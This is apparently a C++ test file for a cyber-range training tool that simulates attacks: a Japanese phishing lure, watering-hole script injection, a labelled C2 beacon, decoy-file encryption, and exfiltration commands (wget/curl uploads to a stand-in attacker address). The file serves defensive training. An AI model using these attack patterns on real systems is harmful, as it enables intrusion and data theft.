#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include <orchestrator/inject/inject_executor.h>
#include <orchestrator/inject/tests/local_shell.h>
#include <orchestrator/inject/tests/sample_hosts.h>

namespace cyrange::inject {
namespace {

using timeline::ItemKind;
using timeline::StepContext;
using timeline::TimelineItem;

HostDirectory hosts() { return testing::sample_hosts(); }

TimelineItem step(const std::string& id, const std::string& type, const std::string& target,
                  std::map<std::string, std::string> params) {
  TimelineItem item;
  item.id = id;
  item.kind = ItemKind::step;
  item.category = "attack";
  item.type = type;
  item.target = target;
  item.params = std::move(params);
  return item;
}

struct Fixture : ::testing::Test {
  std::shared_ptr<FakeGuestRunner> runner = std::make_shared<FakeGuestRunner>();
  bool mta = false;
  bool standard = false;  // hosts run nginx, Samba and smbclient
  InjectExecutor exec{[this](const std::string&, const std::string& team) -> Expected<TeamTarget> {
                        if (team != "t1")
                          return make_error(ErrorCode::not_found,
                                            "Team '" + team + "' has no range.");
                        return TeamTarget{runner, hosts()};
                      },
                      [] { return std::chrono::system_clock::from_time_t(1743499800); }};

  void SetUp() override {
    runner->set_handler([this](const std::string&, const std::vector<std::string>& argv) {
      const std::string script = argv.size() > 2 ? argv[2] : "";
      if (script.find("/usr/sbin/postfix") != std::string::npos)
        return GuestResult{0, mta ? "mta\n" : "none\n", ""};
      if (script.find("command -v curl") != std::string::npos) return GuestResult{0, "curl\n", ""};
      if (script.find("/usr/sbin/nginx") != std::string::npos)
        return GuestResult{0, standard ? "nginx\n" : "busybox\n", ""};
      if (script.find("/usr/sbin/smbd") != std::string::npos)
        return GuestResult{0, standard ? "smbd\n" : "none\n", ""};
      if (script.find("command -v smbclient") != std::string::npos)
        return GuestResult{0, standard ? "smbclient\n" : "none\n", ""};
      return GuestResult{0, "", ""};
    });
  }

  Status fire(const TimelineItem& item, std::int64_t id, const std::string& team = "t1") {
    StepContext c;
    c.execution_id = id;
    c.exercise = "ex";
    c.team = team;
    c.item = &item;
    return exec.execute(c);
  }

  // Every script sent to `host`, concatenated.
  std::string scripts(const std::string& host) const {
    std::string all;
    for (const auto& call : runner->calls()) {
      if (call.host == host && call.argv.size() > 2) all += call.argv[2] + "\n";
    }
    return all;
  }
};

TimelineItem lure() {
  return step("lure-attachment", "send_mail", "mail",
              {{"from", "reporter@abcdef-press.jp"},
               {"to", "suzuki.hanako@city.kakuu.lg.jp"},
               {"subject", "Re: Re: 取材のお願い（ご依頼の資料）"},
               {"attachment", "取材依頼書_資料.docm"}});
}

TEST_F(Fixture, SendMailOnTinyMailHostFallsBackToMboxAndPostfixLog) {
  ASSERT_TRUE(fire(lure(), 42).ok());
  const std::string spool = runner->file("mail", "/var/spool/cyrange/inbound/42.mail.eml");
  ASSERT_FALSE(spool.empty());
  EXPECT_EQ(spool.rfind("From reporter@abcdef-press.jp ", 0), 0u);
  EXPECT_NE(spool.find("Subject: =?UTF-8?B?"), std::string::npos);
  EXPECT_NE(spool.find("filename*=UTF-8''"), std::string::npos);
  const std::string s = scripts("mail");
  EXPECT_NE(s.find(">> /var/mail/suzuki.hanako"), std::string::npos) << s;
  EXPECT_NE(s.find("client=unknown[198.51.100.23]"), std::string::npos)
      << "the attacker's address is the client";
  EXPECT_NE(s.find("status=sent (delivered to mailbox)"), std::string::npos);
  EXPECT_NE(s.find(">> /var/log/mail.log"), std::string::npos);
  ASSERT_EQ(exec.report(42).size(), 1u);
  EXPECT_NE(exec.report(42)[0].find("mbox-fallback"), std::string::npos);
  const std::string marker = runner->file("mail", "/var/lib/cyrange/steps/42");
  EXPECT_NE(marker.find("technique=T1566.001"), std::string::npos) << marker;
  EXPECT_TRUE(scripts("attacker").empty()) << "no SMTP client runs when the mail host has no MTA";
}

TEST_F(Fixture, SendMailToRealMtaUsesCurlFromTheAttacker) {
  mta = true;
  ASSERT_TRUE(fire(lure(), 43).ok());
  const std::string s = scripts("attacker");
  EXPECT_NE(s.find("curl -sS --url smtp://172.16.10.25:25 --mail-from 'reporter@abcdef-press.jp'"),
            std::string::npos)
      << s;
  EXPECT_NE(s.find("--mail-rcpt 'suzuki.hanako@city.kakuu.lg.jp'"), std::string::npos);
  EXPECT_NE(runner->file("attacker", "/var/spool/cyrange/outbox/43.mail.eml")
                .find("Message-ID: <43.mail."),
            std::string::npos);
  EXPECT_NE(exec.report(43)[0].find("smtp-curl"), std::string::npos);
  EXPECT_EQ(scripts("mail").find("/var/mail/"), std::string::npos);
}

TEST_F(Fixture, ARerunWithTheSameExecutionIdDoesNothing) {
  ASSERT_TRUE(fire(lure(), 50).ok());
  const auto first = runner->calls().size();
  ASSERT_TRUE(fire(lure(), 50).ok());
  const auto calls = runner->calls();
  ASSERT_EQ(calls.size(), first + 1) << "only the marker check may run again";
  EXPECT_EQ(calls.back().argv,
            (std::vector<std::string>{"test", "-e", "/var/lib/cyrange/steps/50"}));
  EXPECT_NE(exec.report(50)[0].find("already done"), std::string::npos);
  ASSERT_TRUE(fire(lure(), 51).ok());
  EXPECT_GT(runner->calls().size(), first + 2) << "a new execution id runs again";
  EXPECT_TRUE(exec.idempotent(lure()));
}

TEST_F(Fixture, EveryGuestActionCarriesItsOwnMarker) {
  ASSERT_TRUE(fire(lure(), 60).ok());
  const std::string s = scripts("mail");
  EXPECT_NE(s.find("m='/var/lib/cyrange/steps/60.mail'\n[ -e \"$m\" ] && exit 0"),
            std::string::npos)
      << s;
}

TEST_F(Fixture, ParameterErrorsNameTheStepAndTheParameter) {
  auto item = lure();
  item.params.erase("to");
  auto st = fire(item, 70);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("Step 'lure-attachment'"), std::string::npos)
      << st.error().message;
  EXPECT_NE(st.error().message.find("parameter 'to'"), std::string::npos) << st.error().message;
  EXPECT_TRUE(runner->calls().empty()) << "nothing runs before validation passes";

  auto beacon = step("c2-beacon", "beacon", "ws01",
                     {{"url", "http://x/cgi-bin/u"}, {"interval_seconds", "soon"}});
  st = fire(beacon, 71);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("Step 'c2-beacon'"), std::string::npos);
  EXPECT_NE(st.error().message.find("parameter 'interval_seconds' is 'soon'"), std::string::npos)
      << st.error().message;

  auto unknown = step("x", "teleport", "ws01", {});
  st = fire(unknown, 72);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("type 'teleport'"), std::string::npos);
  EXPECT_FALSE(exec.idempotent(unknown));

  auto elsewhere = step("x", "send_mail", "nohost", lure().params);
  st = fire(elsewhere, 73);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("host 'nohost'"), std::string::npos) << st.error().message;

  st = fire(lure(), 74, "t9");
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("t9"), std::string::npos);
}

TEST_F(Fixture, ScatterSendsOneMessagePerRecipient) {
  auto item = lure();
  item.type = "scatter_mail";
  item.params["to"] = "a@city.kakuu.lg.jp, b@city.kakuu.lg.jp;c@city.kakuu.lg.jp";
  ASSERT_TRUE(fire(item, 80).ok());
  const auto files = runner->files("mail");
  int emls = 0;
  for (const auto& f : files) emls += f.find(".eml") != std::string::npos ? 1 : 0;
  EXPECT_EQ(emls, 3);
  EXPECT_NE(
      runner->file("mail", "/var/spool/cyrange/inbound/80.r2.eml").find("To: c@city.kakuu.lg.jp\n"),
      std::string::npos);
  const std::string s = scripts("mail");
  for (const char* box : {"/var/mail/a", "/var/mail/b", "/var/mail/c"})
    EXPECT_NE(s.find(box), std::string::npos);
}

TEST_F(Fixture, ExchangeBuildsOneThreadEndingWithTheLure) {
  auto item = lure();
  item.type = "mail_exchange";
  item.params["subject"] = "取材のお願い";
  item.params["rounds"] = "2";
  ASSERT_TRUE(fire(item, 90).ok());
  const std::string a0 = runner->file("mail", "/var/spool/cyrange/inbound/90.a0.eml");
  const std::string v1 = runner->file("mail", "/var/spool/cyrange/inbound/90.v1.eml");
  const std::string lure_eml = runner->file("mail", "/var/spool/cyrange/inbound/90.lure.eml");
  ASSERT_FALSE(a0.empty());
  ASSERT_FALSE(v1.empty());
  ASSERT_FALSE(lure_eml.empty());
  EXPECT_EQ(a0.find("multipart"), std::string::npos) << "the first mails are harmless";
  EXPECT_NE(v1.find("From: suzuki.hanako@city.kakuu.lg.jp"), std::string::npos);
  EXPECT_NE(lure_eml.find("In-Reply-To: <90.v1@city.kakuu.lg.jp>"), std::string::npos) << lure_eml;
  EXPECT_NE(lure_eml.find("multipart/mixed"), std::string::npos);
  EXPECT_NE(scripts("mail").find("relay=abcdef-press.jp[198.51.100.23]:25"), std::string::npos);
}

struct Scratch {
  std::filesystem::path dir;
  Scratch() {
    dir = std::filesystem::temp_directory_path() /
          ("cyr-inject-" + std::to_string(::getpid()) + "-" +
           ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
  }
  ~Scratch() { std::filesystem::remove_all(dir); }
};

TEST_F(Fixture, WateringHoleCgiServesTheScriptOnlyToTargetRanges) {
  auto item =
      step("wh", "watering_hole", "portal",
           {{"cidrs", "10.30.0.0/24, 10.20.0.0/16"}, {"script_url", "http://cdn-x.net/s.js"}});
  ASSERT_TRUE(fire(item, 100).ok());
  std::string cgi = runner->file("portal", "/www/cgi-bin/index.cgi");
  ASSERT_NE(cgi.find("CYRANGE TRAINING SIMULATION"), std::string::npos);
  Scratch tmp;
  const std::string clean = (tmp.dir / "clean.html").string();
  const std::string log = (tmp.dir / "access.log").string();
  std::ofstream(clean) << "<html><body>news</body></html>\n";
  cgi = testing::replace_all(cgi, "/var/lib/cyrange/portal/clean-index.html", clean);
  cgi = testing::replace_all(cgi, "/var/log/portal-access.log", log);
  auto visit = [&](const std::string& addr) {
    return testing::run_local({"/bin/sh", "-c", cgi, "sh"}, tmp.dir.string(), "REMOTE_ADDR=" + addr)
        .out;
  };
  const std::string inside = visit("10.30.0.101");
  const std::string deep = visit("[::ffff:10.20.7.9]");
  const std::string outside = visit("198.51.100.99");
  EXPECT_NE(inside.find("<script src=\"http://cdn-x.net/s.js\"></script></body>"),
            std::string::npos)
      << inside;
  EXPECT_NE(deep.find("cdn-x.net"), std::string::npos) << deep;
  EXPECT_EQ(outside.find("script"), std::string::npos) << outside;
  EXPECT_NE(outside.find("news"), std::string::npos);
  std::ifstream in(log);
  std::string l1, l2, l3;
  std::getline(in, l1), std::getline(in, l2), std::getline(in, l3);
  EXPECT_EQ(l1.rfind("10.30.0.101 - - [", 0), 0u) << l1;
  EXPECT_EQ(l3.rfind("198.51.100.99 - - [", 0), 0u) << l3;
  auto size = [](const std::string& l) { return std::stoi(l.substr(l.find("\" 200 ") + 6)); };
  EXPECT_GT(size(l1), size(l3)) << "the target range gets a bigger response";
}

TEST_F(Fixture, EncryptionTouchesOnlyTheDecoysItCreatedAndIsReversible) {
  Scratch tmp;
  runner->set_handler([&](const std::string&, const std::vector<std::string>& argv) {
    auto r = testing::run_local(argv, tmp.dir.string());
    return r;
  });
  const std::string folder = (tmp.dir / "share" / "decoy").string();
  ASSERT_TRUE(
      fire(step("enc", "encrypt_decoys", "files", {{"folder", folder}, {"files", "3"}}), 110).ok());
  EXPECT_FALSE(std::filesystem::exists(folder + "/decoy_1.txt"));
  ASSERT_TRUE(std::filesystem::exists(folder + "/decoy_3.txt.locked"));
  EXPECT_TRUE(std::filesystem::exists(folder + "/README_RESTORE.txt"));
  auto restored =
      testing::run_local({"/bin/sh", "-c", "tr 'A-Za-z' 'N-ZA-Mn-za-m' < \"$1\" | base64 -d", "sh",
                          folder + "/decoy_2.txt.locked"},
                         tmp.dir.string());
  EXPECT_EQ(restored.out, "DECOY document 2 - training data only\n");

  const std::string foreign = (tmp.dir / "real").string();
  std::filesystem::create_directories(foreign);
  std::ofstream(foreign + "/keep.txt") << "mine";
  auto st = fire(step("enc2", "encrypt_decoys", "files", {{"folder", foreign}}), 111);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("not created by this step"), std::string::npos)
      << st.error().message;
  EXPECT_TRUE(std::filesystem::exists(foreign + "/keep.txt"));
  EXPECT_FALSE(fire(step("enc3", "encrypt_decoys", "files", {{"folder", "/"}}), 112).ok());
}

TEST_F(Fixture, BeaconPlantsALabelledBoundedImplant) {
  auto item = step("c2-beacon", "beacon", "ws01",
                   {{"url", "http://198.51.100.23/cgi-bin/update"},
                    {"interval_seconds", "60"},
                    {"via_proxy", "172.16.10.8:3128"},
                    {"c2_host", "attacker"}});
  ASSERT_TRUE(fire(item, 120).ok());
  const std::string implant = runner->file("ws01", "/tmp/.cache/update-120.sh");
  EXPECT_NE(implant.find("CYRANGE TRAINING SIMULATION - HARMLESS"), std::string::npos);
  EXPECT_NE(implant.find("url='http://198.51.100.23/cgi-bin/update' interval=60 jitter=10"),
            std::string::npos);
  EXPECT_NE(implant.find("export http_proxy='http://172.16.10.8:3128'"), std::string::npos);
  EXPECT_NE(implant.find("/var/lib/cyrange/implant/120.stop"), std::string::npos);
  EXPECT_EQ(implant.find("eval"), std::string::npos)
      << "the implant must never execute received text";
  EXPECT_NE(scripts("ws01").find("setsid sh '/tmp/.cache/update-120.sh' </dev/null"),
            std::string::npos);
  EXPECT_NE(runner->file("attacker", "/www/cgi-bin/update").find("/var/log/c2-access.log"),
            std::string::npos);
  EXPECT_EQ(exec.technique(item), "T1071.001");
}

TEST_F(Fixture, OnNginxTheBeaconAndUploadReceiverIsALocationOfTheUrlsPath) {
  standard = true;
  ASSERT_TRUE(fire(step("c2-beacon", "beacon", "ws01",
                        {{"url", "http://cdn-x.net/news/update"},
                         {"interval_seconds", "60"},
                         {"c2_host", "attacker"}}),
                   125)
                  .ok());
  const std::string conf =
      runner->file("attacker", "/etc/nginx/cyrange.d/receiver_news_update.conf");
  EXPECT_NE(conf.find("location ^~ /news/update {"), std::string::npos) << conf;
  // The body is read to its end and dropped before the task answers.
  EXPECT_NE(conf.find("proxy_pass http://127.0.0.1:80/cyrange-task_news_update;"),
            std::string::npos)
      << conf;
  EXPECT_NE(conf.find("proxy_pass_request_body off;"), std::string::npos) << conf;
  EXPECT_NE(conf.find("location ^~ /cyrange-task_news_update {\n  allow 127.0.0.1;"),
            std::string::npos)
      << conf;
  EXPECT_NE(conf.find("return 200 \"sleep\\n\";"), std::string::npos) << conf;
  EXPECT_NE(scripts("attacker").find("nginx -t 2>&1 && nginx -s reload"), std::string::npos);
  EXPECT_TRUE(runner->file("attacker", "/www/cgi-bin/update").empty());
  // Any path will do on nginx (busybox needs /cgi-bin/NAME), and the body may be large.
  ASSERT_TRUE(fire(step("exfil", "upload", "ws01",
                        {{"destination", "http://198.51.100.23/upload/bk_a1b2c3.7z?x=1"},
                         {"archive", "bk_a1b2c3.7z"},
                         {"receiver_host", "attacker"}}),
                   126)
                  .ok());
  const std::string upload =
      runner->file("attacker", "/etc/nginx/cyrange.d/receiver_upload_bk_a1b2c3_7z.conf");
  EXPECT_NE(upload.find("location ^~ /upload/bk_a1b2c3.7z {"), std::string::npos) << upload;
  EXPECT_NE(upload.find("client_max_body_size 512m;"), std::string::npos) << upload;
}

TEST_F(Fixture, SmbCopyBetweenSambaAndSmbclientLogsOnOverSmb) {
  standard = true;
  ASSERT_TRUE(fire(step("lateral", "smb_copy", "files",
                        {{"source", "ws01"}, {"share", "share"}, {"user", "suzuki.hanako"}}),
                   127)
                  .ok());
  const std::string ws = scripts("ws01");
  EXPECT_NE(ws.find("srv='files'\ngetent hosts \"$srv\" >/dev/null || srv='10.40.0.20'"),
            std::string::npos)
      << ws;
  EXPECT_NE(ws.find("smbclient \"//$srv/\"'share' -U 'suzuki.hanako%"), std::string::npos) << ws;
  EXPECT_NE(ws.find("mget *"), std::string::npos) << ws;
  // The server writes its own logs: nothing is forged into auth.log, nothing goes via the agent.
  EXPECT_EQ(scripts("files").find("auth.log"), std::string::npos) << scripts("files");
  EXPECT_TRUE(runner->file("ws01", "/tmp/.stage-127/share.tar.b64").empty());
  EXPECT_NE(exec.report(127)[0].find("over SMB"), std::string::npos);
}

TEST_F(Fixture, TraineeNoticeIsBilingual) {
  auto item = step("isp", "trainee_notice", "ws01",
                   {{"sender", "Kakuu ISP"},
                    {"text_ja", "感染の疑いがあります"},
                    {"text_en", "Possible infection"}});
  item.category = "inject";
  ASSERT_TRUE(fire(item, 130).ok());
  const std::string note = runner->file("ws01", "/home/trainee/inbox/130-isp.txt");
  EXPECT_NE(note.find("From: Kakuu ISP"), std::string::npos);
  EXPECT_NE(note.find("感染の疑いがあります"), std::string::npos);
  EXPECT_NE(note.find("Possible infection"), std::string::npos);
  item.params.erase("text_en");
  auto st = fire(item, 131);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("parameter 'text_en'"), std::string::npos);
}

TEST_F(Fixture, HostStepsBuildTheExpectedCommands) {
  ASSERT_TRUE(
      fire(step("disc", "run_commands", "ws01", {{"commands", "hostname; ls /srv"}}), 140).ok());
  const std::string s = scripts("ws01");
  EXPECT_NE(s.find("echo 'hostname' >> '/root/.ash_history'"), std::string::npos) << s;
  EXPECT_NE(s.find("timeout 30 sh -c 'ls /srv'"), std::string::npos);
  ASSERT_TRUE(fire(step("exfil", "upload", "ws01",
                        {{"destination", "http://198.51.100.23/cgi-bin/upload"},
                         {"archive", "bk_a1b2c3.7z"},
                         {"size_mb", "2"}}),
                   141)
                  .ok());
  EXPECT_NE(
      scripts("ws01").find("--post-file '/tmp/bk_a1b2c3.7z' 'http://198.51.100.23/cgi-bin/upload'"),
      std::string::npos);
  EXPECT_NE(scripts("ws01").find("head -c 2101248 /dev/urandom"), std::string::npos);
  // curl where the guest has it: it sends the length that squid and nginx require.
  EXPECT_NE(scripts("ws01").find("--data-binary @'/tmp/bk_a1b2c3.7z' "
                                 "'http://198.51.100.23/cgi-bin/upload'"),
            std::string::npos);
  ASSERT_TRUE(
      fire(step("dns", "dns_query", "ws01", {{"domain", "cdn-x.net"}, {"count", "3"}}), 142).ok());
  EXPECT_NE(scripts("ws01").find("nslookup"), std::string::npos);
}

TEST(InjectRouting, RouteAllSendsEveryKnownTypeToTheLibrary) {
  auto runner = std::make_shared<FakeGuestRunner>();
  auto inject = std::make_shared<InjectExecutor>(
      [runner](const std::string&, const std::string&) -> Expected<TeamTarget> {
        return TeamTarget{runner, hosts()};
      });
  auto fallback = std::make_shared<timeline::RecordingExecutor>();
  timeline::RoutingExecutor router(fallback);
  InjectExecutor::route_all(router, inject);
  auto item =
      step("isp", "trainee_notice", "ws01", {{"text_ja", "お知らせ"}, {"text_en", "Notice"}});
  StepContext c;
  c.execution_id = 7;
  c.team = "t1";
  c.item = &item;
  ASSERT_TRUE(router.execute(c).ok());
  EXPECT_TRUE(fallback->calls().empty());
  EXPECT_FALSE(runner->file("ws01", "/home/trainee/inbox/7-isp.txt").empty());
  for (const char* t :
       {"send_mail", "scatter_mail", "mail_exchange", "watering_hole", "beacon", "open_attachment",
        "run_commands", "smb_copy", "stage_files", "upload", "dns_query", "encrypt_decoys"}) {
    EXPECT_NE(inject->find(t), nullptr) << t;
  }
}

}  // namespace
}  // namespace cyrange::inject
